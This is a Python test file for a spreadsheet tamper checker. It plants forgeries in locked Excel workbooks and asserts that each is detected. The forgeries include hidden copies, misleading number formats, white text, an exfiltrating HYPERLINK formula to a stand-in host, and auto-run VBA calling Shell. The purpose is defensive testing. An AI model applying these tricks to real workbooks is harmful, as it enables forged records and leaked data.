"""Forgeries in what a reader sees: `check` compares the workbook with the one its embedded definition builds
(the authority for where every name points) and looks at formats, hidden rows and columns, colours and
formulas of locked data, not only at values."""
from __future__ import annotations

import pytest
from openpyxl.styles import Color, Font

from kinerja_xl.domain import names as N
from tests.conftest import named_cells
from tests.flow import tamper


def repoint_indicators_to_a_hidden_copy(wb):
    """The attack: copy the table to hidden rows, point `indikator` (and its `_peta` entry) there, then change
    what Excel shows in the original place."""
    ws = wb["3 Input Data"]
    rows = named_cells(wb, "indikator")
    top = 400
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            ws.cell(top + r, cell.column, cell.value)
        ws.row_dimensions[top + r].hidden = True
    first, last = rows[0][0], rows[-1][-1]
    new_ref = f"'3 Input Data'!${first.column_letter}${top}:${last.column_letter}${top + len(rows) - 1}"
    wb.defined_names["indikator"].attr_text = new_ref
    peta = wb[N.MAP_SHEET]
    for row in peta.iter_rows():
        if row[0].value == "indikator":
            row[1].value = new_ref
    rows[3][9].value = 95  # J16, what everyone sees and prints


def number_format(name, r, c, fmt):
    def edit(wb):
        named_cells(wb, name)[r][c].number_format = fmt
    return edit


def hide_row(name, r):
    def edit(wb):
        cell = named_cells(wb, name)[r][0]
        cell.parent.row_dimensions[cell.row].hidden = True
    return edit


def hide_column(name, c):
    def edit(wb):
        cell = named_cells(wb, name)[0][c]
        cell.parent.column_dimensions[cell.column_letter].hidden = True
    return edit


def white_text(name, r, c, color="FFFFFFFF"):
    def edit(wb):
        named_cells(wb, name)[r][c].font = Font(color=color)
    return edit


def formula(name, r, c, text):
    def edit(wb):
        named_cells(wb, name)[r][c].value = text
    return edit


def extra_name(wb):
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["indikator_asli"] = DefinedName("indikator_asli", attr_text="'3 Input Data'!$A$13:$M$20")


def edit_name_map(wb):
    for row in wb[N.MAP_SHEET].iter_rows():
        if row[0].value == "ttd_blok":
            row[1].value = "'5 Validasi'!$B$40:$B$45"


@pytest.mark.parametrize("edit, expected", [
    (repoint_indicators_to_a_hidden_copy, "Nama 'indikator' menunjuk ke '3 Input Data'!$A$400"),
    (number_format("indikator", 3, 9, '"95"'), "Sel '3 Input Data'!J16 (Realisasi TW IV, baris 4"),
    (number_format("indikator", 3, 9, '0;;;'), "format angka '0;;;'"),
    (number_format(N.SIGNATURE, 2, 0, '0;0;0;"ORANG LAIN"'), "Sel '5 Validasi'!B18 (Tanda tangan: Nama)"),
    (number_format("indikator", 3, 9, "0"), "Format angka sel '3 Input Data'!J16 (Realisasi TW IV, baris 4"),
    (hide_row("indikator", 2), "Baris sel '3 Input Data'!A15 (No, baris 3"),
    (hide_row(N.LOG, 1), "Baris sel 'Log'!A3"),
    (hide_column("indikator", 9), "Kolom sel '3 Input Data'!J13 (Realisasi TW IV"),
    (white_text("indikator", 1, 5), "Teks sel '3 Input Data'!F14 (Target, baris 2"),
    (white_text(N.record(1), 0, 0, Color(theme=0)), "Teks sel '1 Disposisi'!B7"),     # "White, Background 1"
    (white_text(N.record(1), 0, 0, Color(indexed=9)), "Teks sel '1 Disposisi'!B7"),    # the legacy palette's white
    (formula("indikator", 0, 9, "=80+5"), "Sel '3 Input Data'!J13 (Realisasi TW IV, baris 1 Data Input Kinerja Organisasi) berisi rumus"),
    (formula(N.LOG, 1, 9, '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")'), "Sel 'Log'!J3"),
    (extra_name, "Nama 'indikator_asli'"),
    (formula(N.STATUS, 2, 7, "tepat waktu"), "Tabel status di Beranda baris 3 (langkah 3) tidak sesuai dengan log"),
    (formula(N.TURN, 0, 0, "Giliran: langkah 4"), "'Giliran saat ini' di Beranda tidak sesuai dengan log"),
    (edit_name_map, "Daftar nama di lembar tersembunyi '_peta'"),
])
def test_forgeries_in_what_a_reader_sees_are_found_and_named(cli, closed, edit, expected):
    tamper(closed, edit)
    r = cli("check", closed)
    assert r.code == 1 and expected in r.out, r.out


def test_a_date_format_spelled_the_way_libreoffice_writes_it_is_no_finding(cli, closed):
    tamper(closed, number_format("validasi_tanggal", 0, 0, "dd\\-mm\\-yyyy"))
    assert cli("check", closed).code == 0


def test_a_sealed_date_may_not_change_its_format(cli, closed):
    """mm-dd-yyyy prints 1 October as 10-01: a date's format is part of what was sealed."""
    tamper(closed, number_format("disposisi_tanggal", 0, 0, "mm-dd-yyyy"))
    r = cli("check", closed)
    assert r.code == 1 and "Format angka sel '1 Disposisi'!B13" in r.out, r.out


def test_a_text_cell_may_carry_any_format_that_does_not_forge(cli, closed):
    """Excel gives a cell a date format when someone types a date into it; on text that prints nothing else."""
    tamper(closed, number_format("disposisi_nomor", 0, 0, "dd/mm/yyyy"))
    assert cli("check", closed).code == 0


def _rewrite_module(path, name, change):
    from pyopenvba import ExcelFile

    with ExcelFile(path) as book:
        book.set_module(name, change(book.vba_modules()[name]))
        book.save(path)


@pytest.mark.parametrize("module, change, expected", [
    ("KinerjaSel", lambda src: src.replace("Tulis = Array(True, lama)", "Tulis = Array(True, lama): Shell \"calc\""),
     "Modul VBA 'KinerjaSel' berubah"),
    ("ThisWorkbook", lambda src: src + "Private Sub Workbook_Open()\r\n    Shell \"calc\"\r\nEnd Sub\r\n",
     "Modul VBA 'ThisWorkbook' berisi kode"),
])
def test_changed_macros_are_found_and_named(cli, closed, module, change, expected):
    _rewrite_module(closed, module, change)
    r = cli("check", closed)
    assert r.code == 1 and expected in r.out, r.out


def test_another_ribbon_is_found(cli, closed):
    from kinerja_xl.adapters import package

    ui = package.read_part(closed, package.CUSTOMUI_PART).replace(b'onAction="KinerjaTombol"', b'onAction="Lain"', 1)
    closed.write_bytes(package.finish(closed.read_bytes(), ui))
    r = cli("check", closed)
    assert r.code == 1 and "Pita (customUI" in r.out, r.out


def test_the_code_fingerprints_are_sealed_by_step_one(cli, closed):
    """Rewriting a module and its recorded fingerprint together breaks the step-1 digest."""
    import json

    from tests.conftest import named_cells

    _rewrite_module(closed, "KinerjaSel", lambda src: src + "' lain\r\n")
    from kinerja_xl.adapters.vba_sources import code, fingerprint, stored_modules

    def forge(wb):
        cell = named_cells(wb, N.META_CODE)[0][0]
        manifest = json.loads(cell.value)
        manifest["vba"]["KinerjaSel"] = fingerprint(code(stored_modules(closed)["KinerjaSel"]))
        cell.value = json.dumps(manifest, sort_keys=True, separators=(",", ":"))
    tamper(closed, forge)
    r = cli("check", closed)
    assert r.code == 1 and "Data langkah 1 (1 Disposisi) berubah setelah dikunci" in r.out, r.out


def test_a_module_fingerprint_ignores_what_writers_change_and_nothing_else():
    from kinerja_xl.adapters.vba_sources import code

    ours = 'Attribute VB_Name = "M"\r\nSub Tulis()\r\n    MsgBox "Halo"  \r\nEnd Sub\r\n\r\n'
    libreoffice = 'Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub tulis()\n    msgbox "Halo"\nEnd Sub'
    assert code(ours) == code(libreoffice)
    assert code(ours) != code(ours.replace('"Halo"', '"halo"'))        # text in strings is what it says
    assert code(ours) != code(ours.replace("End Sub", "Shell 1\r\nEnd Sub"))


def test_a_name_excel_turned_into_ref_error_is_a_finding_not_a_crash(cli, closed):
    """Excel writes #REF! for a name whose rows or sheet were deleted."""
    def broken(wb):
        wb.defined_names[N.META_CODE].attr_text = "#REF!"
        wb.defined_names["reviu"].attr_text = "'4 Verifikasi'!#REF!"
    tamper(closed, broken)
    r = cli("check", closed)
    assert r.code == 1 and "Nama 'meta_kode' menunjuk ke #REF!" in r.out and "Nama 'reviu'" in r.out, r.out + r.err
